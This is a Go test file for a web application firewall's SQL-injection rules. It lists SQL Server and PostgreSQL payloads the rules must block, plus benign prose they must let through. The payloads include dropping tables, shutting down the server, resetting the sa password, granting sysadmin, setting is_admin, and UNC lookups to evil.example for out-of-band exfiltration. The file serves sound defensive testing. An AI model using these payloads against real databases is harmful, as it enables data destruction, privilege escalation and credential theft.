package waf

import "testing"

// tsqlQuotedNameAttacks are attack 75's SQL Server statements whose names
// stand in double quotes (a name to SQL Server, whose connections turn
// QUOTED_IDENTIFIER on; a string to libinjection), which 210201 did not
// read: EXEC of any procedure, UPDATE ... SET, WHILE with a statement and
// no BEGIN (a loop, or a condition timed).
var tsqlQuotedNameAttacks = []string{`x' exec "sp_executesql" N'drop table users'--`, `x'exec"sp_executesql"N'drop table users'--`,
	`x' exec "sp_executesql" @stmt=N'shutdown'--`, `x' exec "sp_password" null,'new','sa'--`, `x' exec "xp_dirtree" '\\evil.example\a'--`,
	`x') exec "xp_fileexist" '\\evil.example\a'--`, `1 exec "xp_dirtree" '\\evil.example\a'`, `x' exec "sp_msforeachtable" 'drop table ?'--`,
	`x' exec "sp_start_job" 'j'--`, `x' exec "sp_addsrvrolemember" u, sysadmin--`, `x' update "users" set "is_admin"=1--`,
	`x' update users set "pw"=''--`, `x') update "users" set a=1--`, `x' if 1=1 update "users" set a=1--`, `1 update "users" set "is_admin"=1`,
	`x' while exists(select 1 from "users" where "pw" like 'a%') print 1--`, `x' while 1=1 select 1--`}

// pgConversionAttacks are attack 75's PostgreSQL conversions whose error
// shows the value (run on PostgreSQL 15 by the attacker), joined to a
// closed quote or in a numeric slot.
var pgConversionAttacks = []string{"x'||int4in(password::cstring)||'", "x'||inet(password)||'", `1-password::"int4"`, "1 and password::regclass>0",
	`x'||"int4"(password)||'`}

// tsqlQuotedNameBenign are prose near them.
var tsqlQuotedNameBenign = []string{"Parents' exec committee meets Friday", "The team's update the page set for Monday",
	"We'll update users set by the admin", "Mom's while loop example", "I'll exec it tomorrow", "Kids' update: the set is ready",
	`Don't exec "rm" please`, "They're exec producers, it's a 'job'", "std::string is a type", "Use Foo::Bar here", "1-std::cout",
	"It's 'a'||b::c||'d'", "i32::MAX or u8::from"}

// TestTSQLQuotedNames: rules 210201 and 210200 refuse attack 75's SQL
// Server statements and PostgreSQL conversions through a real Caddy (in
// the query and JSON), and none of the near-misses.
func TestTSQLQuotedNames(t *testing.T) {
	operatorTable(t, "210201", func(v string) bool { return tsqlStatement(v) || numberOperand(v) }, append(tsqlQuotedNameAttacks, pgConversionAttacks...),
		[]string{`x' exec @r = "sp_x" 1--`, "x'||password::int||'", "x'+password::regclass+'"}, tsqlQuotedNameBenign)
}
